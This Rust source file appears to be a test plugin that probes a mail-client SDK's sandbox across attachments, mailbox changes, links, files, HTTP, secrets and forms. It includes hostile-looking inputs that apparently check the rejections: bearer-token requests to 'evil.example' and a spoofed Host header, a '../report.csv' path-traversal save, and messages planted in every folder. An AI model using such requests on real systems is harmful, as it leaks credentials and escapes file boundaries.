//! The capabilities that reach beyond messages and records.

use etabli_sdk::{
    Error, MessageId, Text, Value,
    dialogs::{Field, Form, Step, choice},
    files, http,
    link_store::{self, Link, Target},
    log, mailbox, messages_attachments, progress, secrets,
    settings::{self, SettingValue},
};

pub fn attachments(selection: &[MessageId]) -> Result<(), Error> {
    for &message in selection {
        for attachment in messages_attachments::list(message)? {
            let (name, kind, size) = (attachment.name, attachment.media_type, attachment.size);
            log::info(&format!("{name} {kind} {size} bytes"));
        }
        log::info(&String::from_utf8_lossy(&messages_attachments::read(message, 0, 3, 100)?));
        if let Err(failure) = messages_attachments::read(message, 9, 0, 1) {
            log::info(&format!("not found: {}", failure.message));
        }
    }
    Ok(())
}

pub fn mailbox(selection: &[MessageId]) -> Result<(), Error> {
    let folder = mailbox::ensure_folder("SAV/Portes")?;
    let mut changes = mailbox::Changes::new();
    for &message in selection {
        let path = mailbox::folders()?.into_iter().find(|known| known.id == folder).map(|found| found.path);
        log::info(&format!("{} in {}", path.unwrap_or_default(), mailbox::folder_of(message)?));
        changes.move_to(message, folder);
        changes.flag(message, mailbox::Flag::Read, true);
    }
    changes.add(folder, "origin-1", b"Subject: x\r\n\r\n".to_vec());
    changes.apply()?;
    let mut undeclared = mailbox::Changes::new();
    undeclared.set_field(1, "colour", None);
    if let Err(failure) = undeclared.apply() {
        log::info(&failure.message);
    }
    Ok(())
}

/// Puts a message to the address in the setting `greeting` into each folder, and moves the selected ones there.
pub fn everywhere(selection: &[MessageId]) -> Result<(), Error> {
    let SettingValue::Text(to) = settings::get("greeting")? else { return Ok(()) };
    let planted = format!("From: {to}\r\nTo: {to}\r\nSubject: planted\r\n\r\nx\r\n");
    for folder in mailbox::folders()? {
        let mut changes = mailbox::Changes::new();
        changes.add(folder.id, &format!("planted-{}", folder.id), planted.clone().into_bytes());
        for &message in selection {
            changes.move_to(message, folder.id);
            changes.flag(message, mailbox::Flag::Read, true);
        }
        match changes.apply() {
            Ok(_) => log::info(&format!("into {}", folder.path)),
            Err(failure) => log::info(&failure.message),
        }
    }
    Ok(())
}

pub fn links(selection: &[MessageId]) -> Result<(), Error> {
    let target = Target::Entity(4);
    for &message in selection {
        link_store::apply(&[link_store::Operation::Link(Link { message, target })])?;
        log::info(&format!("{} links", link_store::links_of(message)?.len()));
    }
    log::info(&format!("{:?}", link_store::messages_of(target, 10)?));
    Ok(())
}

pub fn files() -> Result<(), Error> {
    if let Some(file) = files::pick(&Text::literal("Which file?"), &["pst".to_owned()])? {
        log::info(&format!("{} {} bytes", file.name(), file.size()));
        log::info(&String::from_utf8_lossy(&file.read_at(3, 100)?));
        log::info(&file.read_at(1000, 10)?.len().to_string());
    }
    let title = Text::literal("Where to?");
    if files::save(&title, "report.csv", b"a;b")? {
        log::info("saved");
    }
    if let Err(failure) = files::save(&title, "../report.csv", b"a;b") {
        log::info(&failure.message);
    }
    Ok(())
}

pub fn progress() {
    progress::report(1, Some(2), Some(&Text::key("form-title").arg("n", 1)));
    log::info(if progress::cancelled() { "stop" } else { "go on" });
}

pub fn http() {
    let request = |url: &str, headers: &[(&str, &str)]| http::Request {
        method: http::Method::Get,
        url: url.to_owned(),
        headers: headers
            .iter()
            .map(|(name, value)| http::Header { name: (*name).to_owned(), value: (*value).to_owned() })
            .collect(),
        credentials: http::Credentials::Bearer("token".to_owned()),
        body: Vec::new(),
    };
    for request in [
        request("https://api.example.org/ping", &[("Accept", "text/plain")]),
        request("https://evil.example/", &[]),
        request("http://api.example.org/", &[]),
        request("https://api.example.org/", &[("Host", "evil.example")]),
    ] {
        match http::send(&request) {
            Ok(answer) => {
                log::info(&format!("{} {}", answer.status, String::from_utf8_lossy(&answer.body)));
            }
            Err(failure) => log::info(&failure.message),
        }
    }
}

/// Asks for what the setting `greeting` says: a method, an address, and `as <user>`, `with <header>` or nothing.
pub fn fetch() -> Result<(), Error> {
    let SettingValue::Text(wanted) = settings::get("greeting")? else { return Ok(()) };
    let words: Vec<&str> = wanted.split_whitespace().collect();
    let token = || "token".to_owned();
    let credentials = match words[2..] {
        ["as", user] => http::Credentials::Basic((user.to_owned(), token())),
        ["with", header] => http::Credentials::Header((header.to_owned(), token())),
        ["signed"] => http::Credentials::Bearer(token()),
        _ => http::Credentials::None,
    };
    let method = if words[0] == "POST" { http::Method::Post } else { http::Method::Get };
    let body = if words[0] == "POST" { b"a body".to_vec() } else { Vec::new() };
    let url = words[1].to_owned();
    match http::send(&http::Request { method, url, headers: Vec::new(), credentials, body }) {
        Ok(answer) => log::info(&format!("{} {} bytes", answer.status, answer.body.len())),
        Err(failure) => log::info(&failure.message),
    }
    Ok(())
}

pub fn secrets() -> Result<(), Error> {
    log::info(&secrets::is_set("token")?.to_string());
    secrets::ask("token", &Text::literal("The token"))?;
    log::info(&secrets::is_set("token")?.to_string());
    secrets::forget("token")?;
    if let Err(failure) = secrets::is_set("no name") {
        log::info(&failure.message);
    }
    Ok(())
}

pub fn keep_secret() -> Result<(), Error> {
    log::info(&format!("set: {}", secrets::ask("token", &Text::literal("The token"))?));
    Ok(())
}

/// A form whose streets are those of the town, and whose name has to be long enough.
pub fn form_steps() -> Result<(), Error> {
    let (mut name, mut town, mut street) = (Value::Empty, Value::Empty, Value::Empty);
    let mut problems = Vec::new();
    loop {
        let choices = |of: &[&str]| of.iter().map(|id| choice(id, Text::literal(*id))).collect();
        let mut form = Form::new(Text::literal("Where"), Text::literal("Go"))
            .field(Field::text("name", Text::literal("Name")).value(name))
            .field(
                Field::select("town", Text::literal("Town"), choices(&["Brest", "Lyon"])).value(town.clone()),
            );
        if let Value::Text(town) = &town {
            let streets = if town == "Brest" {
                ["Rue de Siam", "Quai Cosmao"]
            } else {
                ["Rue Garibaldi", "Quai Perrache"]
            };
            form =
                form.field(Field::select("street", Text::literal("Street"), choices(&streets)).value(street));
        }
        let mut answers = match form.step(&["town"], &problems)? {
            None => {
                log::info("cancelled");
                return Ok(());
            }
            Some(Step::Changed(field, answers)) => {
                log::info(&format!("{field} changed"));
                problems.clear();
                answers
            }
            Some(Step::Submitted(answers)) => {
                problems = vec![("name", Text::literal("This name is too short."))];
                answers
            }
        };
        let before = town;
        (name, town, street) = (answers.take("name"), answers.take("town"), answers.take("street"));
        if town != before {
            street = Value::Empty;
        }
        if !problems.is_empty() && matches!(&name, Value::Text(name) if name.len() >= 3) {
            log::info(&format!("{name:?} {town:?} {street:?}"));
            return Ok(());
        }
    }
}
